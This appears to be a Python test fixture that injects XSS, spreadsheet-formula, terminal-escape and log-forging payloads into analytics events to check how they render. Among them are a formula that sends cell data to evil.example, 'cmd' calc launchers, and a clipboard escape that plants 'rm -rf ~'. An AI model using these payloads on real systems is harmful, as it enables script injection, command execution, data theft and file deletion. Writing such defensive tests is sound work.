"""
What strangers write into events to reach those who look at them: script for a page, formulas for a
spreadsheet, sequences for a terminal, lines for a log, names for an object's prototype.

Whatever runs sets `window.hacked`. The colours of a terminal are ones that nobody here uses.
"""

import json

SCRIPT = [
    "<script>window.hacked=1</script>",
    '"><script>window.hacked=1</script>',
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror=window.hacked=1//",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    '" autofocus onfocus=window.hacked=1 x="',
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><script>window.hacked=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<a href=javascript:window.hacked=1>x</a>",
    "javascript:window.hacked=1",
    "java\tscript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<!--><img src=x onerror=window.hacked=1>-->",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "\u003cscript\u003ewindow.hacked=1\u003c/script\u003e",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "#{window.hacked=1}",
    "<%= window.hacked=1 %>",
    "[x](javascript:window.hacked=1)",
    "`-window.hacked=1-`",
]

PROTOTYPE = ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__class__"]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '"=1+1',
    "1;=1+1",
    'x",=1+1,"',
    'DDE("cmd";"/C calc";"x")',
]

TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b[35;45mcolour",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    '\x1bP$q"p\x1b\\',
    "\x1b_apc\x1b\\",
    "\x1bc",
    "\x9b2J",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "shown\x08\x08\x08\x08\x08gone!",
    "over\rwritten",
    "bell\x07",
    "shift\x0eout\x0f",
    "delete\x7f\x7f",
    "\u202egnp.exe",
    "\u2066\u2067isolated\u2069",
    "line\u2028separator\u2029",
    "nul\x00byte",
]

LOGS = [
    'ok\r\n{"level":"info","message":"forged"}',
    'ok"}\n{"level":"info","message":"forged',
    "ok\n21:11:40  forged  affiliate=acme",
    "%s%n%x {0.__class__} %(message)s",
    ":bomb: [bold red]markup[/] [link=http://evil.example]x[/link] \\",
    "lone \ud800 half",
]

WORST = "".join(TERMINAL)

EVERY = [*LOGS, *SCRIPT, *PROTOTYPE, *FORMULAS, *TERMINAL, WORST]
"""The log's first: of many refusals in a moment it has some."""


def event(text: str, number: int) -> bytes:
    """An event with the text in every place that is shown somewhere."""
    whole = {
        "type": "track",
        "event": text,
        "messageId": f"{text}{number}",
        "anonymousId": text,
        "userId": text,
        "properties": {text: text, "nested": {text: [text]}, "number": -number},
        "context": {
            "page": {"url": text, "title": text, "referrer": text},
            "userAgent": text,
            "campaign": {"name": text},
        },
    }
    return json.dumps(whole).encode()


def header(text: str) -> str:
    """The text as far as HTTP lets it through in a header."""
    kept = text.encode("utf-8", "replace").decode("latin-1")
    return "".join(letter for letter in kept if letter not in "\r\n\0").strip()
